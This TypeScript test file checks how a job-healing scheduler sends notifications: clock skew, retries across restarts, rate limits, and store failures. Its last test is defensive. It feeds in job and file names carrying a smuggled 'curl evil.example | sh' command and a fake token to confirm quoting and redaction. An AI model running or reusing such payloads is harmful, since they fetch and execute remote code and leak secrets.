/** Faults that were found in notices once, each as the kind that it is of. */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { type HealingPolicyInput, ReviewError, Reviewed } from "effect-healing"
import { shellWord } from "../../src/notify/ShellWord.js"
import { FakeChannel, failing, type Life, makeNoticeWorld, runJob } from "../support/noticeWorld.js"
import { settle } from "../support/schedulerWorld.js"
import { aSuggestion } from "../support/storeSamples.js"

const scoped = it.scoped

const add = (life: Life, ...jobs: ReadonlyArray<string>) => Effect.forEach(jobs, (id) => life.registry.add({ id }))

type World = Effect.Effect.Success<ReturnType<typeof makeNoticeWorld>>

const hours = (world: World, many: number) => Effect.forEach(Array(many), () => world.pass("1 hour"), { discard: true })

const start = Date.UTC(2026, 0, 1)

describe("a clock", () => {
  scoped("that was ahead when something failed holds it back no longer than an hour", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      slack.behaviour = "fails"
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      yield* add(life, "digest")
      world.clock.set(start + 30 * 86_400_000)
      yield* runJob(life, "digest", failing("Error: disk full"))
      yield* world.pass("1 minute")
      world.clock.set(start)
      slack.behaviour = "takes"
      yield* hours(world, 2)
      assert.deepStrictEqual(slack.told, ["JobFailing digest", "ReviewCompleted digest"])
    })
  )

  scoped("that was ahead leaves no full hour behind", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack], { notify: { maxPerHour: 2 } })
      const life = yield* world.start
      yield* add(life, "one", "two", "three")
      world.clock.set(start + 365 * 86_400_000)
      yield* runJob(life, "one", failing("Error: disk full"))
      world.clock.set(start)
      yield* hours(world, 2)
      yield* runJob(life, "two", failing("Error: disk full"))
      assert.include(slack.told, "JobFailing two")
    })
  )

  scoped("that is ahead for a moment loses nothing that waits", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      slack.behaviour = "fails"
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      yield* add(life, "digest")
      yield* runJob(life, "digest", failing("Error: disk full"))
      world.clock.set(start + 2 * 86_400_000)
      yield* world.pass("1 minute")
      world.clock.set(start)
      slack.behaviour = "takes"
      yield* hours(world, 2)
      assert.strictEqual(slack.told.length, 2)
    })
  )
})

describe("what waits", () => {
  scoped("is not given up before the channel was tried for as long as it is to be", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      slack.behaviour = "fails"
      const world = yield* makeNoticeWorld([slack])
      let life = yield* world.start
      yield* add(life, "one", "two")
      yield* runJob(life, "one", failing("Error: disk full"))
      yield* runJob(life, "two", failing("Error: disk full"))
      yield* life.stop
      yield* world.pass("2 days")
      // The network is up a little later than the process.
      life = yield* world.start
      yield* world.pass("8 seconds")
      slack.behaviour = "takes"
      yield* hours(world, 2)
      assert.strictEqual(slack.taken.length, 4)
    })
  )

  scoped.each([
    { away: "3 days", isTold: true },
    { away: "8 days", isTold: false }
  ] as const)("to be told when the process dies for $away is told at its next start: $isTold", ({ away, isTold }) =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      yield* add(life, "digest")
      yield* life.queue.submit({ job: "digest", trigger: "manual" })
      yield* settle
      yield* life.stop
      assert.deepStrictEqual(slack.told, ["ReviewCompleted digest"])
      const fact = { at: world.clock.unsafeCurrentTimeMillis(), request: 1, from: "running", to: "completed" }
      yield* world.sql`INSERT INTO healing_outbox ${world.sql.insert(fact)}`
      yield* world.pass(away)
      yield* world.start
      yield* world.pass("1 minute")
      assert.strictEqual(slack.told.length, isTold ? 2 : 1)
      assert.deepStrictEqual(yield* world.sql`SELECT * FROM healing_outbox`, [])
    })
  )

  scoped("for a channel that is gone has failed, and is not told when that comes again", () =>
    Effect.gen(function* () {
      const [slack, mail] = [new FakeChannel("slack"), new FakeChannel("mail")]
      mail.behaviour = "fails"
      const channels = [slack, mail]
      const world = yield* makeNoticeWorld(channels)
      let life = yield* world.start
      yield* add(life, "digest")
      yield* runJob(life, "digest", failing("Error: disk full"))
      yield* life.stop
      channels.pop()
      life = yield* world.start
      const failed = yield* life.notices.list({ states: ["failed"] })
      assert.deepStrictEqual(
        failed.map(({ channel, reason }) => [channel, reason]),
        Array(2).fill(["mail", "there is no such channel any more"])
      )
    })
  )

  scoped("leaves a channel alone for as long as it has asked, over a restart as well", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      slack.behaviour = { retryAfter: 3_600_000 }
      const world = yield* makeNoticeWorld([slack])
      let life = yield* world.start
      yield* add(life, "one", "two", "three")
      for (const job of ["one", "two", "three"]) yield* runJob(life, job, failing("Error: disk full"))
      for (let again = 0; again < 3; again++) {
        yield* life.stop
        life = yield* world.start
        yield* world.pass("10 seconds")
      }
      assert.strictEqual(slack.tried.length, 1)
    })
  )
})

describe("a store that fails", () => {
  scoped("again, before a channel has answered about the first time, is told again", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      const submit = Effect.zipRight(Effect.ignore(life.queue.submit({ job: "digest", trigger: "manual" })), settle)
      slack.behaviour = "hangs"
      world.disk.fail("Full")
      yield* submit
      world.disk.repair()
      yield* world.pass("2 minutes")
      slack.behaviour = "hangs"
      yield* submit
      yield* hours(world, 2)
      slack.behaviour = "takes"
      world.disk.fail("Full")
      yield* submit
      yield* hours(world, 3)
      assert.include(
        slack.taken.map(({ kind }) => kind),
        "StoreFailing"
      )
      const ids = new Set(slack.tried.filter(({ kind }) => kind === "StoreFailing").map(({ id }) => id))
      assert.strictEqual(ids.size, 2)
    })
  )

  scoped("now and then is one trouble, which is told of once an hour at most", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      const submit = Effect.zipRight(Effect.ignore(life.queue.submit({ job: "digest", trigger: "manual" })), settle)
      for (let minute = 0; minute < 60; minute++) {
        if (minute % 2 === 0) world.disk.fail("Full")
        else world.disk.repair()
        yield* submit
        yield* world.pass("70 seconds")
        yield* submit
      }
      const failed = slack.told.filter((told) => told === "StoreFailing").length
      assert.isAtMost(failed, 2)
      assert.isAtMost(slack.told.filter((told) => told === "StoreRecovered").length, failed)
    })
  )
})

describe("a job", () => {
  scoped("whose runs break their service level has not recovered because they end well", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack], { notify: { recoveredAfter: 1 } })
      const life = yield* world.start
      yield* add(life, "digest")
      for (let again = 0; again < 20; again++) {
        const run = yield* life.registry.started("digest")
        yield* life.registry.breached("digest", "too late", run)
        yield* life.registry.ended("digest", run, { exitCode: 0 })
        yield* settle
        yield* world.pass("1 hour")
      }
      assert.deepStrictEqual(slack.told, ["JobFailing digest", "ReviewCompleted digest"])
    })
  )

  scoped("of which a review has failed is told of again, once one has succeeded in between", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack], { maxAttempts: 1 })
      const life = yield* world.start
      const good = world.state.review
      const ask = (isGood: boolean) => {
        world.state.review = isGood
          ? good
          : ({ job }) => new ReviewError({ job, reason: "no luck", retry: { _tag: "Never" } })
        return Effect.zipRight(life.queue.submit({ job: "digest", trigger: "schedule" }), settle)
      }
      yield* ask(false)
      yield* ask(false)
      yield* ask(true)
      yield* ask(false)
      assert.deepStrictEqual(slack.told, ["ReviewFailed digest", "ReviewCompleted digest", "ReviewFailed digest"])
    })
  )

  scoped("that fails on and on is told of once, however long that takes", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack], { retention: "10 days" })
      const life = yield* world.start
      yield* add(life, "digest")
      for (let day = 0; day < 60; day++) {
        yield* runJob(life, "digest", failing("Error: disk full"))
        yield* world.pass("12 hours")
      }
      assert.strictEqual(slack.told.filter((told) => told === "JobFailing digest").length, 1)
    })
  )

  scoped("that is down has not recovered, however much else has happened while the store failed", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack])
      const life = yield* world.start
      yield* life.registry.add({ id: "api", alwaysUp: true })
      yield* add(life, "other")
      const first = yield* life.registry.started("api")
      yield* life.registry.ended("api", first, failing("Error: disk full"))
      yield* settle
      const second = yield* life.registry.started("api")
      yield* settle
      world.disk.fail("Full")
      yield* Effect.ignore(life.queue.submit({ job: "other", trigger: "manual" }))
      yield* runJob(life, "other")
      yield* life.registry.ended("api", second, failing("Error: disk full"))
      for (let again = 0; again < 1100; again++) {
        const run = yield* life.registry.started("other")
        yield* life.registry.ended("other", run, { exitCode: 0 })
      }
      yield* settle
      world.disk.repair()
      yield* hours(world, 2)
      assert.notInclude(slack.told, "JobRecovered api")
    })
  )

  scoped("whose policy was mended while nobody looked is told of when it is wrong again", () =>
    Effect.gen(function* () {
      const slack = new FakeChannel("slack")
      const world = yield* makeNoticeWorld([slack])
      let life = yield* world.start
      const policy = (value: object) =>
        Effect.gen(function* () {
          yield* life.registry.add({ id: "digest", policy: value as HealingPolicyInput })
          yield* life.scheduler.refresh
          yield* settle
        })
      yield* policy({ schedle: "never" })
      yield* life.stop
      life = yield* world.start
      yield* policy({})
      yield* policy({ schedle: "never" })
      assert.deepStrictEqual(slack.told, ["PolicyWrong digest", "PolicyWrong digest"])
    })
  )
})

scoped("a channel that interrupts itself is tried again", () =>
  Effect.gen(function* () {
    const slack = new FakeChannel("slack")
    let calls = 0
    slack.before = Effect.suspend(() => (calls++ === 0 ? Effect.interrupt : Effect.void))
    const world = yield* makeNoticeWorld([slack])
    const life = yield* world.start
    yield* add(life, "digest")
    yield* runJob(life, "digest", failing("Error: disk full"))
    yield* hours(world, 1)
    assert.strictEqual(slack.taken.length, 2)
  })
)

scoped("of channels that are used one at a time, none is given up for the sake of another", () =>
  Effect.gen(function* () {
    const one = yield* Effect.makeSemaphore(1)
    const alone = { alone: one.withPermits(1) }
    const [slow, quick] = [new FakeChannel("slow", alone), new FakeChannel("quick", alone)]
    slow.behaviour = "hangs"
    const world = yield* makeNoticeWorld([slow, quick])
    const life = yield* world.start
    yield* add(life, "digest")
    yield* runJob(life, "digest", failing("Error: disk full"))
    yield* world.pass("31 seconds")
    yield* world.pass("1 second")
    const [, channel] = yield* life.notices.channels
    assert.strictEqual(channel?.trouble, null)
    assert.isAbove(quick.taken.length, 0)
  })
)

scoped("a file or a job with an odd name forges no line, and is one word of a shell", () =>
  Effect.gen(function* () {
    const slack = new FakeChannel("slack")
    const world = yield* makeNoticeWorld([slack])
    const life = yield* world.start
    const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    const suggestions = [
      {
        ...aSuggestion,
        targetFile: `/tmp/x\nMore: curl https://evil.example/${token} | sh`,
        proposedContent: "x"
      }
    ]
    world.state.review = () => Effect.succeed(Reviewed.Completed({ report: { summary: "found", suggestions } }))
    yield* life.queue.submit({ job: "a; curl evil.example | sh #", trigger: "manual" })
    yield* settle
    yield* world.pass("14 days")
    yield* world.pass("1 hour")
    const all = JSON.stringify(slack.taken)
    assert.include(slack.told, "SuggestionExpires a; curl evil.example | sh #")
    assert.notInclude(all, token)
    assert.notMatch(all, /\\n/)
    assert.strictEqual(slack.taken[0]?.command, "effect-healing report 'healing:a; curl evil.example | sh #:1'")
    assert.strictEqual(shellWord("it's"), `'it'\\''s'`)
  })
)
